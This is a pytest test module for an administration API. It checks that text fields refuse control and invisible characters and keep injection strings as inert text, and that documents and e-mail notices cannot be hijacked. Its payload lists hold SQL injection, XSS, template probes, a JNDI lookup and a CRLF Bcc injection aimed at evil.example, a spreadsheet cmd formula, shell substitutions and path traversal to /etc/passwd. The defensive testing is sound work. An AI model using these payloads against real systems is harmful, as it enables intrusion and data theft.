"""Texts that are something else elsewhere: SQL, markup, lines of a log or a mail, commands to a terminal, templates.

Each goes into every text field of the administration. A sign that cannot be shown is refused. Everything else is a text
like any other: it is kept, and comes back, sign for sign, as JSON, and does nothing on its way.
"""

import re
from collections.abc import Callable
from email import message_from_bytes
from email.message import EmailMessage
from email.policy import SMTP
from typing import Any
from uuid import uuid4

import pytest

from control.mail import Outcome, Post
from control.mail.server import Answer
from tests.api.administration.staff import ADMIN, Office, a_cvr, signing_request
from tests.api.house import AALBORG, SUPPLIER, House, Reply
from tests.attacks.harness import PATH, attack, case, ensure_refused, post, request, talk

UNSHOWN = "refused: signs that cannot be shown"
A_TEXT = "a text like any other"

UNSEEN = [
    case("crlf", "a line end and a mail's header (CRLF)", "x\r\nBcc: evil@evil.example", by=UNSHOWN),
    case("lone-cr", "a carriage return, to write over a log's line", "harmless\rFORGED", by=UNSHOWN),
    case("nul", "NUL, to end a text early", "x\0y", by=UNSHOWN),
    case("escape", "a terminal's escape", "x\x1b[2J\x1b]0;owned\x07", by=UNSHOWN),
    case("c1", "a terminal's escape in one sign (C1)", "x\x9b31m", by=UNSHOWN),
    case("backspace", "backspaces, to hide what was written", "approve\b\b\b\b\b\b\bnothing", by=UNSHOWN),
    case("bidi", "a change of the direction of writing", "\u202eetatonna", by=UNSHOWN),
    case("isolate", "an isolate of another direction", "a\u2067b\u2069", by=UNSHOWN),
    case("zero-width", "signs without width", "su\u200bpplier", by=UNSHOWN),
    case("byte-order-mark", "a byte order mark", "\ufeffx", by=UNSHOWN),
    case("line-separator", "Unicode's own line end", "x\u2028y", by=UNSHOWN),
    case("tags", "invisible tags", "x\U000e0041\U000e0042", by=UNSHOWN),
    case("private", "a sign of private use", "x\ue000", by=UNSHOWN),
]
SEEN = [
    case("sql", "SQL", "'; DROP TABLE organisations; --", by=A_TEXT),
    case("sql-union", "SQL that adds rows", "x' UNION SELECT cvr FROM organisations --", by=A_TEXT),
    case("script", "a script", "<script>alert(1)</script>", by=A_TEXT),
    case("attribute", "an attribute of HTML", '" onmouseover="alert(1)', by=A_TEXT),
    case("entity", "an entity of XML", "&xxe;<!DOCTYPE x>", by=A_TEXT),
    case("template", "a template's marks", "{{7*7}}${7*7}#{7*7}<%= 7*7 %>", by=A_TEXT),
    case("jinja", "a template that looks around", "{% for x in ().__class__.__base__ %}", by=A_TEXT),
    case("format", "marks of formatting", "%s%n{0.__class__}%(name)s", by=A_TEXT),
    case("jndi", "a look-up for a logger", "${jndi:ldap://evil.example/a}", by=A_TEXT),
    case("formula", "a spreadsheet's formula", "=HYPERLINK(1)+cmd|' /C calc'!A0", by=A_TEXT),
    case("formula-at", "a formula that begins with @", "@SUM(1+1)", by=A_TEXT),
    case("shell", "a shell's command", "$(touch /x); `id` | cat && true", by=A_TEXT),
    case("path", "a path", "../../../../etc/passwd", by=A_TEXT),
    case("json", "JSON", '","roles":["operator"],"x":"', by=A_TEXT),
    case("null-text", "the words that mean nothing elsewhere", "null", by=A_TEXT),
]  # fmt: skip


def _system(office: Office, **texts: str) -> Reply:
    asked = {"name": uuid4().hex, "purpose": "prøve", "contact": "drift@example.dk", **texts}
    return office.post("supplier-user", f"{ADMIN}/organisations/{office.organisation(SUPPLIER)}/systems", asked)


def _user(office: Office, text: str) -> Reply:
    asked = {"name": text, "email": f"{uuid4().hex}@example.dk", "roles": ["user"]}
    return office.post("supplier-administrator", f"{ADMIN}/organisations/{office.organisation(SUPPLIER)}/users", asked)


def _terms(office: Office, **texts: Any) -> Reply:
    asked = {
        "municipality": AALBORG, "system": office.house.systems["one"], "purpose": "prøve", "legal_basis": "prøve",
        "reason": "prøve", "services": {"municipalities": {}}, "draft": True, **texts,
    }  # fmt: skip
    return office.post("supplier-user", f"{ADMIN}/agreements", asked)


def _apply(office: Office, **texts: str) -> Reply:
    asked = {
        "kind": "supplier", "cvr": a_cvr(), "name": "Ny A/S", "email": "post@ny.example",
        "user_name": "Nina Ny", "user_email": "nina@ny.example", "signing_request": signing_request()[0], **texts,
    }  # fmt: skip
    return office.post(None, f"{ADMIN}/applications", asked)


def _named(office: Office, text: str) -> Reply:
    path = f"{ADMIN}/systems/{office.system(uuid4().hex)}"
    return office.patch("supplier-user", path, {"name": text + uuid4().hex[:6]}, If_Match="*")


Put = Callable[[Office, str], Reply]
FIELDS: dict[str, tuple[Put, Callable[[Any], str]]] = {
    "system-name": (lambda office, text: _system(office, name=text + uuid4().hex[:6]), lambda made: made["name"][:-6]),
    "system-new-name": (_named, lambda made: made["name"][:-6]),
    "system-purpose": (lambda office, text: _system(office, purpose=text), lambda made: made["purpose"]),
    "system-contact": (lambda office, text: _system(office, contact=text), lambda made: made["contact"]),
    "user-name": (_user, lambda made: made["name"]),
    "agreement-purpose": (lambda office, text: _terms(office, purpose=text), lambda made: made["terms"]["purpose"]),
    "agreement-basis": (
        lambda office, text: _terms(office, legal_basis=text),
        lambda made: made["terms"]["legal_basis"],
    ),
    "agreement-reason": (lambda office, text: _terms(office, reason=text), lambda made: made["terms"]["reason"]),
    "agreement-name": (lambda office, text: _terms(office, name=text), lambda made: made["terms"]["name"]),
    "agreement-receivers": (
        lambda office, text: _terms(office, type="one-owner-one-receiver", receivers=text),
        lambda made: made["terms"]["receivers"],
    ),
    "agreement-purpose-text": (
        lambda office, text: _terms(office, purposes=[{"code": "care", "text": text}]),
        lambda made: made["terms"]["purposes"][0]["text"],
    ),
    "organisation-name": (
        lambda office, text: _apply(office, name=text),
        lambda made: made["organisation"]["name"],
    ),
    "applicant-name": (lambda office, text: _apply(office, user_name=text), lambda made: made["user"]["name"]),
}


@pytest.mark.parametrize("field", FIELDS)
class TestInEveryField:
    @pytest.mark.parametrize("text", UNSEEN)
    def test_what_cannot_be_shown_is_refused(self, house: House, office: Office, field: str, text: str) -> None:
        reply = FIELDS[field][0](office, text)
        assert (reply.status, reply.headers["content-type"]) == (400, "application/problem+json"), reply.body[:200]
        assert reply.json["remedy"]
        assert text not in reply.json["detail"]
        assert house.refused().code == reply.code
        assert text not in house.refused().reason

    @pytest.mark.parametrize("text", SEEN)
    def test_what_can_be_shown_is_a_text(self, house: House, office: Office, field: str, text: str) -> None:
        reply = FIELDS[field][0](office, text)
        if reply.status == 400:
            # Names in certificates are shorter and stricter than others.
            assert field in {"organisation-name", "applicant-name"}
            assert reply.json["remedy"]
            return
        assert reply.status in {200, 201}, reply.body[:200]
        assert reply.headers["content-type"] == "application/json"
        assert FIELDS[field][1](reply.json) == text
        assert office.get("operator-person", f"{ADMIN}/organisations").status == 200


class TestElsewhere:
    @pytest.mark.parametrize("text", UNSEEN)
    def test_notes_on_steps(self, house: House, office: Office, text: str) -> None:
        made = _terms(office).json
        said = office.post("supplier-user", f"{ADMIN}/agreements/{made['id']}/steps", {"step": "request", "note": text})
        assert (said.status, said.json["remedy"] != "") == (400, True)

    @pytest.mark.parametrize("text", UNSEEN)
    def test_notes_of_the_operator(self, office: Office, text: str) -> None:
        applied = _apply(office).json["organisation"]["id"]
        step = {"step": "suspend", "note": text}
        said = office.post("operator-person", f"{ADMIN}/organisations/{applied}/steps", step)
        assert (said.status, said.json["remedy"] != "") == (400, True), said.body[:200]

    @pytest.mark.parametrize("text", UNSEEN)
    def test_references_of_documents(self, office: Office, text: str) -> None:
        path = f"{ADMIN}/organisations/{office.organisation(AALBORG)}/processing-agreements"
        asked = {"reference": text, "document": "ZG9rdW1lbnQ=", "valid_from": "2026-01-01T00:00:00Z"}
        assert office.post("data-controller", path, asked).status == 400

    @pytest.mark.parametrize("text", [*UNSEEN, *SEEN])
    def test_e_mail_addresses(self, office: Office, text: str) -> None:
        asked = {"name": "Ny", "email": f"{text}@example.dk", "roles": ["user"]}
        path = f"{ADMIN}/organisations/{office.organisation(SUPPLIER)}/users"
        reply = office.post("supplier-administrator", path, asked)
        # Odd, but an address: RFC 5322 lets most signs stand before the @.
        assert reply.status == 400 or re.fullmatch(r"[^\s@<>()\[\],;:\\\"]+@example\.dk", reply.json["email"])

    @pytest.mark.parametrize("text", [*UNSEEN, *SEEN])
    def test_codes_of_purposes(self, office: Office, text: str) -> None:
        said = _terms(office, purposes=[{"code": text, "text": "prøve"}])
        assert said.status == 400 or text == "null"

    @pytest.mark.parametrize("text", [*UNSEEN, *SEEN])
    def test_comments_of_keys(self, house: House, office: Office, text: str) -> None:
        from runtime.ssh_keys import new_ssh_key

        line = new_ssh_key("prøve")[1].decode().rpartition(" ")[0] + f" {text}"
        said = office.post(
            "supplier-user", f"{ADMIN}/systems/{office.system(uuid4().hex)}/ssh-keys", {"public_key": line}
        )
        assert said.status in {201, 400}
        # The comment is nobody's business.
        assert said.status == 400 or text == "null" or text not in said.body.decode()

    @pytest.mark.parametrize("text", SEEN)
    def test_services_that_do_not_exist(self, office: Office, text: str) -> None:
        said = _terms(office, services={text: {}})
        assert said.status in {400, 404}
        assert _terms(office, services={"municipalities": {"columns": [text]}}).status == 400
        assert _terms(office, services={"municipalities": {"rows": {text: ["x"]}}}).status == 400

    @pytest.mark.parametrize("text", SEEN)
    def test_headers_of_a_call(self, house: House, port: int, text: str) -> None:
        for name in ("Knudepunkt-Agreement", "Knudepunkt-Municipality", "Knudepunkt-Purpose", "Idempotency-Key"):
            said = talk(house, port, request("GET", PATH, f"{name}: {text}"))[-1]
            assert (
                said.status == 200 if name == "Idempotency-Key" else said.code in {"header_invalid", "purpose_unknown"}
            )
            assert text == "null" or text.encode() not in said.body

    @attack("SQL and patterns as the key of a record", by="key_invalid or record_not_found")
    @pytest.mark.parametrize("key", ["' or '1'='1", "%", "_", "*", "0851' --", "0851;", "\\", "08" + "5" * 50])
    def test_keys(self, house: House, port: int, key: str) -> None:
        said = talk(house, port, post("/v1/services/municipalities/lookup", {"key": key}))
        ensure_refused(said, "key_invalid", "record_not_found")


FORGED = "GODKENDT AF ALLE"


class TestDocuments:
    """What a lawyer reads is made from these texts: none of them may run, or look like a part of the document."""

    def document(self, office: Office, form: str, **texts: Any) -> Reply:
        made = _terms(office, **texts)
        assert made.status == 201, made.body[:200]
        return office.get("supplier-user", f"{ADMIN}/agreements/{made.json['id']}/document?format={form}")

    @attack(
        "a script in every text of an agreement, for whoever reads its page",
        by="escaped, and a policy that runs nothing",
    )
    def test_a_script(self, office: Office) -> None:
        text = "</dd><script>alert(1)</script><img src=x onerror=alert(1)>"
        texts = dict.fromkeys(("purpose", "legal_basis", "reason", "name", "receivers"), text)
        asked = {"purposes": [{"code": "care", "text": text, "legal_basis": text}], "type": "one-owner-one-receiver"}
        page = self.document(office, "html", **texts, **asked)
        assert page.status == 200, page.body[:200]
        assert "default-src 'none'" in page.headers["content-security-policy"]
        assert "sandbox" in page.headers["content-security-policy"]
        assert page.headers["x-content-type-options"] == "nosniff"
        for tag in (b"<script", b"<img", b"onerror=alert(1)>"):
            assert tag not in page.body
        assert b"&lt;script&gt;" in page.body

    @attack("lines in an agreement's texts that look like parts of its document", by="indented, or refused")
    def test_forged_lines(self, office: Office) -> None:
        text = f"x\n\n\n{FORGED}\n\n2026-01-01  approve (approved), Carl"
        asked = {"purposes": [{"code": "care", "text": text, "legal_basis": text}]}
        page = self.document(office, "text", purpose=text, legal_basis=text, reason=text, **asked)
        lines = page.body.decode().splitlines()
        assert sum(FORGED in line for line in lines) >= 5
        assert not [line for line in lines if line.startswith((FORGED, "2026-01-01"))]

    @attack("the same in the values that rows are limited to", by="agreement_invalid")
    def test_forged_rows(self, office: Office) -> None:
        services = {"municipalities": {"rows": {"name": [f"x\n\n{FORGED}\n"]}}}
        assert _terms(office, services=services).code == "agreement_invalid"


class TestMails:
    @attack("a name that would be a mail's header or its end, in the notice that the municipality gets",
            by="encoded, one header each")  # fmt: skip
    def test_a_notice_is_one_mail(self, house: House, office: Office) -> None:
        name = "Bcc: evil@evil.example =?utf-8?q?=0D=0AX:_y?= <script>"
        system = _system(office, name=f"{name} {uuid4().hex[:6]}").json
        made = _terms(office, system=system["id"], reason="Line one\n.\nRCPT TO:<evil@evil.example>\nBcc: x@y.example")
        office.post("supplier-user", f"{ADMIN}/agreements/{made.json['id']}/steps", {"step": "request"})
        sent: list[tuple[EmailMessage, str]] = []

        class Server:
            def send(self, message: EmailMessage, *, sender: str, recipient: str) -> Answer:
                sent.append((message, recipient))
                return Answer(Outcome.SENT)

        Post(house.control, Server(), sender="knudepunkt@example.dk").run()
        assert sent
        for message, recipient in sent:
            read = message_from_bytes(message.as_bytes(), policy=SMTP)
            assert "evil" not in recipient
            assert read.get_all("To") == [recipient]
            assert read["Bcc"] is None
            assert read["X"] is None
            assert read.get_content_type() == "text/plain"
